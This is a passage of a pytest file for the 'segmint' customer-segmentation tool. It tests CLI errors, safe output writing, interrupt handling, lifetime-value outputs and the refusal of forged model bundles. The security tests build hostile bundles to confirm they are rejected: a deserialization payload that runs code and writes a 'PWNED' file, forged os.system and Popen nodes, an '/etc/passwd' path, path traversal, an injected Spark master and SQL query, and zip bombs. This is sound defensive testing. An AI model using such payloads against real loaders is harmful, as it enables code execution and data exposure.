    """A model trained with --categorical country, scored on data without a country
    column, said "score data of the same kind (transactions or customer table)", which
    they were: the hint now names the column and --map."""
    run = tmp_path / "run"
    args = ["--categorical", "country", "--algorithm", "kmeans", "--k", "3", "--no-clv"]
    assert cli("--quiet", "run", shop_csv, "--out", run, *args).code == 0
    lines = pd.read_csv(shop_csv, dtype=str)
    (bare := tmp_path / "bare.csv").write_text(lines.drop(columns="Country").to_csv(index=False))
    out = tmp_path / "s.parquet"
    r = cli("score", run, bare, "--out", out)
    _assert_one_line_error(r, "needs feature(s) ['country']")
    assert "with a country column" in r.err and "--map country=<column>" in r.err
    assert "same kind" not in r.err and not out.exists()
    # the hint's way out works: the column under another name, mapped
    (land := tmp_path / "land.csv").write_text(
        lines.rename(columns={"Country": "Land"}).to_csv(index=False)
    )
    assert cli("score", run, land, "--out", out, "--map", "country=Land").code == 0


def test_an_output_folder_in_a_missing_folder_gets_a_hint(
    cli, shop_csv: Path, tmp_path: Path
) -> None:
    """`run --out a/b/run` without a/b printed its error without a hint (and named the
    parent, not --out), unlike the commands that write files."""
    out = tmp_path / "a" / "b" / "run"
    r = cli("run", shop_csv, "--out", out)
    _assert_one_line_error(r, f"--out {out}: the folder {out.parent} does not exist")
    assert f"Hint: create it first (mkdir -p {out.parent})" in r.err


def test_the_current_folder_as_output_is_refused_before_any_work(
    cli, shop_csv: Path, shop_run: Path, tmp_path: Path, monkeypatch
) -> None:
    """`segmint run data.csv --out .` in an empty folder (which --out may be) ran the
    whole pipeline, then failed renaming "." ("Device or resource busy"); in a run folder
    with --overwrite it would have replaced the folder the shell is in."""
    here = tmp_path / "here"
    here.mkdir()
    monkeypatch.chdir(here)
    for out, extra in ((".", []), (str(here), []), ("..", ["--overwrite"])):
        r = cli("run", shop_csv, "--out", out, *extra)
        _assert_one_line_error(r, f"--out {out}: ")
        assert "current folder" in r.err and "Hint: segmint writes the output folder" in r.err
    assert list(here.iterdir()) == [] and sorted(p.name for p in tmp_path.iterdir()) == ["here"]
    monkeypatch.chdir(shop_run)
    r = cli(
        "migrate", shop_run, shop_csv, "--from", "2011-06-01", "--to", "2011-09-01", "--out", "."
    )
    _assert_one_line_error(r, "--out .: is the current folder")


def test_loading_refuses_untrusted_types(tmp_path: Path, shop_run: Path) -> None:
    import hashlib

    import skops.io as sio

    payload = sio.dumps({"f": os.system})  # a function: never allowed
    meta = json.loads(zipfile.ZipFile(shop_run / "model.segmint").read("metadata.json"))
    meta["model_sha256"] = hashlib.sha256(payload).hexdigest()
    meta["metadata_sha256"] = _metadata_digest(meta)  # a forger can recompute both
    evil = tmp_path / "evil.segmint"
    with zipfile.ZipFile(evil, "w") as z:
        z.writestr("metadata.json", json.dumps(meta))
        z.writestr("model.skops", payload)
    with pytest.raises(BundleError, match="types that are not allowed"):
        segmint.load_model(evil)


def _forged(run: Path, path: Path, payload: bytes, **changes: Any) -> Path:
    """A bundle with ``payload`` as its model and ``changes`` to the metadata, checksums
    recomputed as a forger would."""
    import hashlib

    meta = json.loads(zipfile.ZipFile(run / "model.segmint").read("metadata.json"))
    meta |= changes
    meta["model_sha256"] = hashlib.sha256(payload).hexdigest()
    meta["metadata_sha256"] = _metadata_digest(meta)
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("metadata.json", json.dumps(meta))
        z.writestr("model.skops", payload)
    return path


def test_loading_never_calls_a_function_named_in_the_model(tmp_path: Path, shop_run: Path):
    """A crafted model.skops whose root is a call of a scikit-learn *function* (one that
    runs Python code) was loaded, and the code ran, because every type under "sklearn."
    was trusted. Only the exact classes a segmint model holds are allowed now."""
    import io

    marker = tmp_path / "PWNED"
    code = f"open({str(marker)!r}, 'w').write('pwned')"
    text = {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode"}
    schema = {
        "__class__": "assert_run_python_script_without_output",
        "__module__": "sklearn.utils._testing",
        "__loader__": "ConstructorFromReduceNode",
        "content": {
            "__class__": "tuple",
            "__module__": "builtins",
            "__loader__": "TupleNode",
            "content": [
                text | {"content": json.dumps(code), "is_json": True, "__id__": 2},
                text | {"content": json.dumps("NEVER"), "is_json": True, "__id__": 3},
            ],
            "__id__": 1,
        },
        "__id__": 0,
        "protocol": 2,
        "_skops_version": "0.16.0",
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("schema.json", json.dumps(schema))
    evil = _forged(shop_run, tmp_path / "evil.segmint", buf.getvalue())
    with pytest.raises(BundleError, match="not allowed: sklearn.utils._testing"):
        segmint.load_model(evil)
    assert not marker.exists()


def test_a_model_schema_node_skops_cannot_list_is_named_readably(
    shop_run: Path, tmp_path: Path
) -> None:
    """An object node without its ``key_types`` (a forged Popen) was refused as "the
    model cannot be read ('key_types')"."""
    import io

    model = zipfile.ZipFile(shop_run / "model.segmint").read("model.skops")
    with zipfile.ZipFile(io.BytesIO(model)) as inner:
        blobs = {n: inner.read(n) for n in inner.namelist()}
    schema = json.loads(blobs["schema.json"])
    empty = {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode"}
    schema["content"]["content"]["verbose"] = {
        "__class__": "Popen",
        "__module__": "subprocess",
        "__loader__": "ObjectNode",
        "content": empty | {"content": {}, "__id__": 998},
        "__id__": 999,
    }
    blobs["schema.json"] = json.dumps(schema).encode()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in blobs.items():
            z.writestr(name, data)
    bad = _forged(shop_run, tmp_path / "bad.segmint", buf.getvalue())
    with pytest.raises(BundleError) as caught:
        segmint.load_model(bad)
    message = caught.value.message
    assert "the file was changed or damaged" in message, message
    assert "lacks the entry 'key_types'" in message or "not allowed" in message, message


def _refused_at_load(run: Path, tmp_path: Path, cli, changes: dict[str, Any], message: str) -> None:
    """The run's bundle with ``changes`` in its metadata (checksums recomputed) is
    refused by load_model with ``message``, and by ``segmint score`` with exit 2."""
    model = zipfile.ZipFile(run / "model.segmint").read("model.skops")
    bad = _forged(run, tmp_path / "bad.segmint", model, **changes)
    with pytest.raises(BundleError, match=re.escape(message)):
        segmint.load_model(bad)
    res = cli("score", bad, tmp_path / "none.csv", "--out", tmp_path / "s.csv")
    assert res.code == 2 and "Traceback" not in res.err and "bad.segmint" in res.err


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"format_version": 0}, "format_version 0, which no segmint wrote"),
        ({"format_version": "2"}, "format_version '2', which no segmint wrote"),
        ({"format_version": True}, "format_version True, which no segmint wrote"),
        ({"segment_names": "HACKED"}, "entry 'segment_names' is not valid"),
        ({"segment_names": {"zero": "x"}}, "entry 'segment_names' is not valid"),
        ({"clean": {"bogus": 1}}, "entry 'clean' is not valid"),
        ({"window": "forever"}, "entry 'window' is not valid"),
        ({"rfm": {"rule_set": "/etc/passwd.toml", "cut_points": {}}}, "not a shipped rule set"),
        ({"rfm": {"rule_set": "rf-grid", "cut_points": {"monetary": {}}}}, "entry 'rfm'"),
    ],
)
def test_loading_names_a_malformed_metadata_entry(
    tmp_path: Path, shop_run: Path, cli, changes: dict, message: str
) -> None:
    """Metadata of the wrong shape failed later as an internal error (exit 70), and a
    rule-set *path* in a bundle made segmint read a file of the machine loading it."""
    _refused_at_load(shop_run, tmp_path, cli, changes, message)


@pytest.mark.parametrize(
    ("load", "named"),
    [
        ({"engine": "spark", "spark_master": "spark://127.0.0.1:7077"}, "engine, spark_master"),
        ({"query": "SELECT * FROM pg_catalog.pg_authid"}, "query"),
        ({"table": "payroll"}, "table"),
    ],
)
def test_a_bundle_cannot_say_where_scoring_reads_data(
    tmp_path: Path, shop_run: Path, cli, load: dict, named: str
) -> None:
    """segmint never stores the engine, Spark master, table or query in a bundle, but
    scoring used them when a bundle had them: a bundle from another team made
    ``segmint score model.segmint sales.csv`` connect to the Spark master it named (the
    user's lines sent to that cluster), or ran its own query on the user's database."""
    meta = json.loads(zipfile.ZipFile(shop_run / "model.segmint").read("metadata.json"))
    stored = meta["load"] | load
    message = f"entry 'load' is not valid (it names where to read data ({named})"
    _refused_at_load(shop_run, tmp_path, cli, {"load": stored}, message)


def test_a_density_model_names_customers_it_leaves_unassigned(tmp_path: Path) -> None:
    """DBSCAN that put every training customer in a segment still leaves a new customer
    farther than ``eps`` from every core customer unassigned (-1): scoring gave such a
    customer no name and no action, and /v1/predict answered ``segment_name: null``,
    which its schema says is always text."""
    lines, _ = make_transactions(n_customers=400, seed=3)
    params = {"dbscan": {"eps": 1.0, "min_samples": 1}}
    run = tmp_path / "run"
    segmint.run(lines, {"segment": {"algorithm": "dbscan", "algorithm_params": params}}, out=run)
    model = segmint.load_model(run / "model.segmint")
    assert not model.segmenter.has_noise_  # nobody unassigned in training
    far = pd.read_parquet(run / "customers.parquet").head(3)
    for c in ("recency_days", "frequency", "monetary", "tenure_days"):
        far[c] = far[c] * 1e6
    got = model.assign(far)
    assert (got["segment_id"] == -1).all()
    assert set(got["segment_name"]) == {"Unassigned / outliers"}
    assert set(got["action"]) == {"Review individually before any campaign"}
    cols = {c: far[c].to_numpy() for c in model.segmenter.transform_.features_}
    fast = model.assign_columns(cols, far["customer_id"])
    assert fast["segment_name"] == ["Unassigned / outliers"] * 3
    # a model that never leaves anyone out gets no such name
    plain = segmint.load_model(_kmeans_run(tmp_path, lines) / "model.segmint")
    assert -1 not in plain.names and -1 not in plain.actions


def _kmeans_run(tmp_path: Path, lines: pd.DataFrame) -> Path:
    out = tmp_path / "kmeans"
    segmint.run(lines, {"segment": {"algorithm": "kmeans", "n_clusters": 3}}, out=out)
    return out


def _rfm_changed(run: Path, **cut: Any) -> dict[str, Any]:
    """The run's RFM metadata with the monetary cut points' entries replaced."""
    meta = json.loads(zipfile.ZipFile(run / "model.segmint").read("metadata.json"))
    rfm = meta["rfm"]
    rfm["cut_points"]["monetary"] |= cut
    return rfm


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"window": "99999999999Y"}, "entry 'window' is not valid"),
        ({"training": "x"}, "entry 'training' is not valid (must be an object)"),
        ({"model": ["kmeans"]}, "entry 'model' is not valid (must be an object)"),
        ({"thresholds": [10**400, 1, 2, 3]}, "entry 'rfm' is not valid (int too large"),
        ({"thresholds": [4, 3, 2, 1]}, "fixed thresholds for monetary must be increasing)"),
        ({"lower_is_better": "no"}, "lower_is_better of 'monetary' is not true or false"),
        ({"suffix": "/../../x.toml"}, "rule_set_suffix '/../../x.toml' is neither"),
        ({"suffix": "a" * 300}, "rule_set_suffix 'aaaa"),
    ],
)
def test_loading_refuses_metadata_that_lies(
    tmp_path: Path, shop_run: Path, cli, changes: dict, message: str
) -> None:
    """Forged metadata (checksums recomputed) with numbers beyond a float, a window of
    billions of years, an object where scoring and /v1/model expect one, cut points
    out of order or a file ending of 300 letters was an internal error (exit 70) or,
    for cut points out of order, loaded and scored by the service with them as they
    were. Each is refused at load naming the entry."""
    if "thresholds" in changes or "lower_is_better" in changes:
        changes = {"rfm": _rfm_changed(shop_run, **changes)}
    elif "suffix" in changes:
        rfm = _rfm_changed(shop_run)
        rfm |= {"rule_set_text": 'name = "x"\n', "rule_set_suffix": changes["suffix"]}
        changes = {"rfm": rfm}
    _refused_at_load(shop_run, tmp_path, cli, changes, message)
    assert not list(tmp_path.glob("*.toml"))


def test_a_stored_rule_table_is_named_not_its_temporary_file(
    tmp_path: Path, shop_run: Path
) -> None:
    """A broken rule table stored in a bundle was reported under the name of the
    temporary file segmint copied it to (/tmp/tmpk2x...toml)."""
    rfm = _rfm_changed(shop_run) | {"rule_set_text": "not toml", "rule_set_suffix": ".toml"}
    model = zipfile.ZipFile(shop_run / "model.segmint").read("model.skops")
    bad = _forged(shop_run, tmp_path / "bad.segmint", model, rfm=rfm)
    with pytest.raises(BundleError, match="the rule table stored in the bundle: not valid TOML"):
        segmint.load_model(bad)


@pytest.mark.parametrize("raw", ['{"x": ' + "9" * 5000 + "}", "[" * 100_000])
def test_loading_refuses_unparsable_metadata_json(tmp_path: Path, shop_run: Path, raw: str):
    """An integer of 5,000 digits (beyond Python's limit for int()) or JSON nested
    100,000 deep in metadata.json was an internal error (exit 70)."""
    bad = tmp_path / "bad.segmint"
    with zipfile.ZipFile(bad, "w") as z:
        z.writestr("metadata.json", raw)
        z.writestr("model.skops", zipfile.ZipFile(shop_run / "model.segmint").read("model.skops"))
    with pytest.raises(BundleError, match="the bundle is damaged"):
        segmint.load_model(bad)


def _bomb(z: zipfile.ZipFile, name: str, size: int) -> None:
    """Write a member ``name`` of ``size`` spaces (deflated: about a thousandth of it)."""
    with z.open(name, "w", force_zip64=True) as fh:
        for _ in range(size // 2**20):
            fh.write(b" " * 2**20)


@pytest.mark.parametrize("member", ["metadata.json", "model.skops", "model.skops/schema.json"])
def test_loading_refuses_a_zip_bomb_before_unpacking_it(
    tmp_path: Path, shop_run: Path, member: str
) -> None:
    """A bundle of 3 MB whose member unpacks to 3 GB took 6.6 GB of memory before the
    checksum refused it (a machine with less was killed). The sizes the archive declares
    are checked first: a member bigger than a model holds, or one unpacking to more than
    100 x its packed size, is refused, before anything is read; so are the members of
    model.skops, itself a zip."""
    import hashlib
    import io
    import tracemalloc

    import skops.io  # noqa: F401 - imported before memory is measured

    src = zipfile.ZipFile(shop_run / "model.segmint")
    meta = json.loads(src.read("metadata.json"))
    model = src.read("model.skops")
    bad = tmp_path / "bomb.segmint"
    size = 80 * 2**20  # beyond the 64 MiB limit of metadata.json, 1000 x its packed size
    with zipfile.ZipFile(bad, "w", zipfile.ZIP_DEFLATED) as z:
        if member == "metadata.json":
            _bomb(z, "metadata.json", size)
            z.writestr("model.skops", model)
        elif member == "model.skops":
            z.writestr("metadata.json", json.dumps(meta))
            _bomb(z, "model.skops", size)
        else:  # a forged model whose own member is the bomb, checksums recomputed
            buf = io.BytesIO()
            with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as inner:
                _bomb(inner, "schema.json", size)
            meta["model_sha256"] = hashlib.sha256(buf.getvalue()).hexdigest()
            meta["metadata_sha256"] = _metadata_digest(meta)
            z.writestr("metadata.json", json.dumps(meta))
            z.writestr("model.skops", buf.getvalue())
    assert bad.stat().st_size < 2**20
    tracemalloc.start()
    try:
        with pytest.raises(BundleError, match=f"{re.escape(member)} unpacks to 83,886,080"):
            segmint.load_model(bad)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 20 * 2**20, peak


def test_format_1_bundles_load_without_the_metadata_checksum(
    tmp_path: Path, shop_run: Path
) -> None:
    """Bundles written before metadata_sha256 (format 1) still load; format 2 needs it."""
    src = zipfile.ZipFile(shop_run / "model.segmint")
    meta = json.loads(src.read("metadata.json"))
    assert meta["format_version"] == 2 and meta["metadata_sha256"] == _metadata_digest(meta)
    del meta["metadata_sha256"]
    for version, loads in ((1, True), (2, False)):
        old = tmp_path / f"v{version}.segmint"
        with zipfile.ZipFile(old, "w") as z:
            z.writestr("metadata.json", json.dumps(meta | {"format_version": version}))
            z.writestr("model.skops", src.read("model.skops"))
        if loads:
            model = segmint.load_model(old)
            assert model.names == segmint.load_model(shop_run / "model.segmint").names
        else:
            with pytest.raises(BundleError, match="metadata.json does not match"):
                segmint.load_model(old)
    # an edited format-2 bundle set back to format 1 keeps its (stale) checksum: refused
    edited = meta | {"format_version": 1, "metadata_sha256": _metadata_digest(meta)}
    edited["segment_names"] = {**edited["segment_names"], "0": "Hacked"}
    old = tmp_path / "downgraded.segmint"
    with zipfile.ZipFile(old, "w") as z:
        z.writestr("metadata.json", json.dumps(edited))
        z.writestr("model.skops", src.read("model.skops"))
    with pytest.raises(BundleError, match="metadata.json does not match"):
        segmint.load_model(old)


# -- interruption --------------------------------------------------------------------


@pytest.mark.parametrize("moment", ["searching segmentations", "writing"])
def test_interrupted_run_leaves_no_output(shop_csv: Path, tmp_path: Path, moment: str):
    out = tmp_path / "killed"
    proc = subprocess.Popen(
        [SEGMINT, "-v", "run", shop_csv, "--out", out],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        if moment == "writing":  # wait until the temporary output folder exists
            deadline = time.monotonic() + 600
            while not list(tmp_path.glob(".killed.part-*")):
                assert proc.poll() is None, "the run ended before it started writing"
                assert time.monotonic() < deadline
                time.sleep(0.02)
        else:  # wait until the log says the stage has started
            for line in proc.stderr:
                if moment in line:
                    break
            else:
                pytest.fail("the run ended before " + moment)
        proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=120)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 130
    assert not out.exists()
    assert not list(tmp_path.glob(".killed*")), sorted(map(str, tmp_path.rglob("*")))


def _interrupting_writer(folder: Path, *_: object) -> None:
    (folder / "customers.parquet").write_text("half")
    raise KeyboardInterrupt


def _hidden(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.startswith("."))


@pytest.mark.parametrize("existing", [False, True])
def test_interrupted_writing_removes_the_partial_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, existing: bool
) -> None:
    from segmint import pipeline

    out = tmp_path / "res"
    if existing:
        out.mkdir()
        (out / "run.json").write_text("{}")  # a folder segmint wrote
        (out / "keep.txt").write_text("old run")
    monkeypatch.setattr(pipeline, "_write_outputs", lambda r, f, s: _interrupting_writer(f))
    with pytest.raises(KeyboardInterrupt):
        pipeline.write_run_folder(None, out, overwrite=True)  # type: ignore[arg-type]
    assert _hidden(tmp_path) == []
    if existing:
        assert sorted(p.name for p in out.iterdir()) == ["keep.txt", "run.json"]
    else:
        assert not out.exists()


def test_interruption_as_the_chart_thread_starts_leaves_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A SIGTERM just after the chart thread was started (seen in CI) must still wait for
    that thread before the temporary folder is removed: the thread had re-created the
    removed folder and left charts in a hidden ``.res.part-*`` beside the output."""
    from concurrent.futures import Future, ThreadPoolExecutor

    from segmint import pipeline

    lines, _ = make_transactions(n_customers=300, seed=5)
    result = segmint.run(lines, {"segment": {"algorithm": "kmeans", "n_clusters": 3}})
    started: list[Future] = []
    removed = threading.Event()
    real_submit, real_remove = ThreadPoolExecutor.submit, pipeline._remove_tree

    def late(fn: Any) -> Any:
        def run(*args: Any, **kwargs: Any) -> Any:
            # the thread is slow to start: it runs once the folder was removed (or after
            # 2 s, when the writer rightly waits for it before removing anything)
            removed.wait(timeout=2)
            return fn(*args, **kwargs)

        return run

    def submit(self: ThreadPoolExecutor, fn: Any, /, *args: Any, **kwargs: Any) -> Future:
        if getattr(fn, "__name__", "") != "write_charts":
            return real_submit(self, fn, *args, **kwargs)
        started.append(real_submit(self, late(fn), *args, **kwargs))
        raise KeyboardInterrupt  # the signal arrives as the thread has just started

    def remove_tree(path: Path, **kwargs: Any) -> None:
        real_remove(path, **kwargs)
        removed.set()

    monkeypatch.setattr(ThreadPoolExecutor, "submit", submit)
    monkeypatch.setattr(pipeline, "_remove_tree", remove_tree)
    with pytest.raises(KeyboardInterrupt):
        pipeline.write_run_folder(result, tmp_path / "res", overwrite=False)
    assert started
    started[0].exception(timeout=120)  # the thread has ended, whatever it did
    assert sorted(p.name for p in tmp_path.iterdir()) == []


@pytest.mark.parametrize("moment", ["mkdir", "swap"])
def test_interruption_at_the_edges_of_writing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, moment: str
) -> None:
    """Ctrl-C just after the temporary folder appears, or between moving the old run
    aside and moving the new one in: the old run stays and nothing hidden is left."""
    from segmint import pipeline

    out = tmp_path / "res"
    out.mkdir()
    (out / "run.json").write_text("{}")
    (out / "keep.txt").write_text("old run")
    monkeypatch.setattr(pipeline, "_write_outputs", lambda r, f, s: (f / "new.txt").write_text("x"))
    real_mkdir, real_rename = Path.mkdir, Path.rename

    def mkdir(self: Path, *a: object, **k: object) -> None:
        real_mkdir(self, *a, **k)  # type: ignore[arg-type]
        if moment == "mkdir" and ".part-" in self.name:
            raise KeyboardInterrupt

    def rename(self: Path, target: Path) -> Path:
        if moment == "swap" and ".part-" in self.name:
            raise KeyboardInterrupt
        return real_rename(self, target)

    monkeypatch.setattr(Path, "mkdir", mkdir)
    monkeypatch.setattr(Path, "rename", rename)
    with pytest.raises(KeyboardInterrupt):
        pipeline.write_run_folder(None, out, overwrite=True)  # type: ignore[arg-type]
    assert _hidden(tmp_path) == []
    assert sorted(p.name for p in out.iterdir()) == ["keep.txt", "run.json"]


def test_overwrite_replaces_only_folders_segmint_wrote(
    cli, shop_csv: Path, shop_run: Path, tmp_path: Path
) -> None:
    """--overwrite replaces the whole folder: never one that is not segmint's output (a
    mistyped --out must not delete someone's files); an empty folder is simply used."""
    docs = tmp_path / "Documents"
    docs.mkdir()
    (docs / "thesis.docx").write_text("years of work")
    r = cli("run", shop_csv, "--out", docs, "--overwrite", "--algorithm", "kmeans", "--k", "2")
    assert r.code == 2 and "replaces only a folder segmint wrote" in r.err, r.err
    assert (docs / "thesis.docx").read_text() == "years of work"
    empty = tmp_path / "empty"
    empty.mkdir()
    r = cli("run", shop_csv, "--out", empty, "--algorithm", "kmeans", "--k", "2")
    assert r.code == 0 and (empty / "run.json").is_file(), r.err


def test_a_folder_that_appears_during_the_run_is_not_replaced(tmp_path: Path) -> None:
    """Two runs to one --out both exited 0 and the later replaced the other's folder; a
    folder made by someone else while a run wrote was deleted. The folder is checked
    again just before the rename."""
    from segmint.errors import ConfigError
    from segmint.pipeline import write_folder

    out = tmp_path / "out"

    def meanwhile(folder: Path) -> None:
        (folder / "run.json").write_text("{}")
        out.mkdir()  # another process, while this one writes
        (out / "important.txt").write_text("precious")

    with pytest.raises(ConfigError) as err:
        write_folder(out, False, meanwhile, marker="run.json")
    assert err.value.code == "output_exists"
    assert (out / "important.txt").read_text() == "precious"
    assert [p.name for p in tmp_path.iterdir()] == ["out"]  # no hidden leftovers
    with pytest.raises(ConfigError) as err:  # --overwrite: still not a folder of ours
        write_folder(out, True, lambda f: (f / "run.json").write_text("{}"), marker="run.json")
    assert err.value.code == "output_not_ours" and (out / "important.txt").exists()


def test_overwrite_through_a_symbolic_link_keeps_the_link(
    cli, shop_csv: Path, tmp_path: Path
) -> None:
    """`--out current --overwrite` with `current` a link to a release folder replaced
    the link by a folder, left a dangling link and waited 60 s trying to delete it."""
    import time

    release = tmp_path / "releases" / "run-a"
    release.parent.mkdir()
    args = ["--algorithm", "kmeans", "--k", "2", "--no-clv"]
    assert cli("run", shop_csv, "--out", release, *args).code == 0
    link = tmp_path / "current"
    link.symlink_to(release)
    start = time.monotonic()
    res = cli("run", shop_csv, "--out", link, "--overwrite", *args, "--seed", "7")
    assert res.code == 0, res.err
    assert time.monotonic() - start < 45
    assert link.is_symlink() and link.resolve() == release.resolve()
    assert json.loads((link / "run.json").read_text())["config"]["segment"]["seed"] == 7
    assert sorted(p.name for p in release.parent.iterdir()) == ["run-a"]


def test_removal_outlasts_a_writer_that_is_still_finishing(tmp_path: Path) -> None:
    import threading

    from segmint.pipeline import _remove_tree

    folder = tmp_path / ".part"
    folder.mkdir()
    stop = time.monotonic() + 0.5

    def straggler() -> None:  # keeps adding files for a while, as a chart thread might
        i = 0
        while time.monotonic() < stop:
            try:
                (folder / f"f{i}").write_text("x")
            except OSError:
                pass
            i += 1

    thread = threading.Thread(target=straggler)
    thread.start()
    time.sleep(0.05)
    _remove_tree(folder)
    thread.join()
    _remove_tree(folder)  # a last file written between the two is removed as well
    assert not folder.exists()


# -- lifetime value and the choice by the future -----------------------------------------


def test_run_values_customers_and_segments(shop_run: Path) -> None:
    from segmint.clv import CLV_COLUMNS

    customers = pd.read_parquet(shop_run / "customers.parquet")
    for col in CLV_COLUMNS:
        assert customers[col].notna().all() and (customers[col] >= 0).all(), col
    assert customers["clv_p_alive"].le(1).all()
    clv = json.loads((shop_run / "clv.json").read_text())
    assert clv["expected_value"] == pytest.approx(customers["clv_value"].sum(), rel=1e-9)
    by_seg = customers.groupby("segment_id")["clv_value"].sum() / customers["clv_value"].sum()
    for seg in clv["segments"]:
        assert seg["clv_value_share"] == pytest.approx(by_seg[seg["segment_id"]], rel=1e-9)
    layout = pd.read_csv(shop_run / "clv_summary.csv", dtype={"customer_id": str})
    assert list(layout.columns) == ["customer_id", "frequency", "recency", "T", "monetary_value"]
    assert len(layout) == len(customers)
    segments = pd.read_csv(shop_run / "segments.csv")
    assert {"mean_clv_value", "median_clv_value", "clv_value_share"} <= set(segments.columns)
    html = (shop_run / "report.html").read_text()
    assert 'id="clv"' in html and "Lifetime value" in html
    model = segmint.load_model(shop_run / "model.segmint")
    assert model.metadata["clv"]["bgnbd"]["r"] == clv["bgnbd"]["r"]
    run_info = json.loads((shop_run / "run.json").read_text())
    assert "clv.json" in run_info["files"] and run_info["clv_note"] is None
    # one key for the caveats: clv.json had "notes" (a list) and "note" (always null)
    assert "note" not in clv and isinstance(clv["notes"], list)
    assert "note" not in model.metadata["clv"]


def test_run_without_enough_history_leaves_clv_out_with_a_note(tmp_path: Path) -> None:
    # every customer buys once: no repeat purchase, so no purchase rates to estimate
    lines = pd.DataFrame(
        {
            "CustomerID": [str(i) for i in range(60)],
            "InvoiceNo": [str(1000 + i) for i in range(60)],
            "InvoiceDate": pd.date_range("2011-01-01", periods=60, freq="D"),
            "Quantity": 1,
            "UnitPrice": [float(1 + i % 7) for i in range(60)],
            "StockCode": "A",
        }
    )
    out = tmp_path / "run"
    result = segmint.run(lines, {"segment": {"algorithm": "kmeans", "n_clusters": 3}}, out=out)
    assert result.clv is None and "no customer has a repeat purchase" in result.clv_note
    assert "clv_value" not in result.customers.columns
    # the reason is in "notes", the one key clv.json has for caveats (it was "note" here)
    assert result.report.summary["clv"] == {"notes": [result.clv_note], "segments": None}
    summary = json.loads((out / "summary.json").read_text())
    assert summary["clv"] == {"notes": [result.clv_note], "segments": None}
    assert segmint.load_model(out / "model.segmint").metadata["clv"]["notes"] == [result.clv_note]
    html = (out / "report.html").read_text()
    assert "no customer has a repeat purchase" in html.split('id="clv"')[1].split("</section>")[0]


def test_segmenting_on_lifetime_value_profiles_it_once(tmp_path: Path) -> None:
    """``--features recency_days,frequency,clv_value`` (lifetime value columns may be
    segmented on) ended in an internal error: clv_value was named twice in the
    profile's features."""
    lines, _ = make_transactions(n_customers=300, seed=2)
    config = {
        "segment": {
            "algorithm": "kmeans",
            "n_clusters": 3,
            "features": ["recency_days", "frequency", "clv_value"],
        }
    }
    result = segmint.run(lines, config, out=tmp_path / "run")
    table = result.profile.table
    assert list(table.columns).count("mean_clv_value") == 1
    by_seg = result.customers.groupby("segment_id")["clv_value"].mean()
    assert table.set_index("segment_id")["mean_clv_value"].to_dict() == pytest.approx(
        by_seg.to_dict()
    )


def test_a_margin_is_recorded_with_the_values_it_made_profit(tmp_path: Path) -> None:
    """With ``clv.margin`` below 1 the values are profit, but clv.json, ``segmint clv
    --json`` and the report called them "expected value" without the margin: nobody
    reading them could tell profit from revenue."""
    lines, _ = make_transactions(n_customers=300, seed=2)
    out = tmp_path / "run"
    config = {"segment": {"algorithm": "kmeans", "n_clusters": 3}, "clv": {"margin": 0.3}}
    plain = segmint.run(lines, {"segment": {"algorithm": "kmeans", "n_clusters": 3}})
    result = segmint.run(lines, config, out=out)
    clv = json.loads((out / "clv.json").read_text())
    assert clv["margin"] == 0.3 and plain.clv.describe()["margin"] == 1.0
    assert clv["expected_value"] == pytest.approx(0.3 * plain.clv.describe()["expected_value"])
    html = (out / "report.html").read_text().split('id="clv"')[1].split("</section>")[0]
    assert "as profit at a 30" in html
    assert result.clv.margin == 0.3


def test_a_clv_summary_of_an_earlier_version_has_its_note_in_notes() -> None:
    """Bundles and summaries written before had ``note`` beside ``notes``: the report and
    ``/v1/segments`` read them with the caveats in ``notes`` only."""
    from segmint.clv import one_notes_key

    assert one_notes_key({"note": "left out: x", "segments": None}) == {
        "notes": ["left out: x"],
        "segments": None,
    }
    assert one_notes_key({"notes": ["a"], "note": None, "r": 1}) == {"notes": ["a"], "r": 1}
    assert one_notes_key(None) is None


def test_a_model_whose_top_rfm_scores_nobody_reaches_loads_and_scores(cli, tmp_path: Path) -> None:
    """Half the customers order once and half twice: the tied top block swallows F = 4
    and 5, so two cut points are None. The run's model was refused as "changed or
    damaged" by every command that loads it; it now loads and scores as it was fitted,
    and the cut points can be given back as a thresholds file (``inf`` = unreachable)."""
    rows = []
    for c in range(300):
        for o in range(1 + c % 2):
            rows.append((str(c), f"{c}-{o}", f"2011-0{1 + o * 3}-{1 + c % 27:02d}", 2, 5.0 + c))
    lines = pd.DataFrame(
        rows, columns=["CustomerID", "InvoiceNo", "InvoiceDate", "Quantity", "UnitPrice"]
    ).assign(StockCode="A")
    data = tmp_path / "lines.csv"
    lines.to_csv(data, index=False)
    res = cli("run", data, "--out", tmp_path / "run", "--algorithm", "kmeans", "--k", "3")
    assert res.code == 0, res.err
    model = segmint.load_model(tmp_path / "run" / "model.segmint")
    cuts = model.metadata["rfm"]["cut_points"]["frequency"]["thresholds"]
    assert cuts[2:] == [None, None] and cuts[0] == 2.0
    scored = model.score(str(data))
    run = pd.read_parquet(tmp_path / "run" / "customers.parquet")
    merged = run.merge(scored, on="customer_id", suffixes=("", "_new"))
    assert len(merged) == 300
    assert (merged["segment_id"] == merged["segment_id_new"]).all()
    assert (merged["rfm_segment"] == merged["rfm_segment_new"]).all()
    assert cli("score", tmp_path / "run", data, "--out", tmp_path / "s.csv").code == 0
    # the cut points the run wrote (inf for the unreachable ones), the run folder and the
    # model each give them back to score another period on the same scale
    written = (tmp_path / "run" / "rfm_thresholds.toml").read_text()
    assert "frequency = [2.0, 2.0, inf, inf]" in written
    for given in (
        tmp_path / "run" / "rfm_thresholds.toml",
        tmp_path / "run",
        tmp_path / "run" / "model.segmint",
    ):
        out = tmp_path / "f.csv"
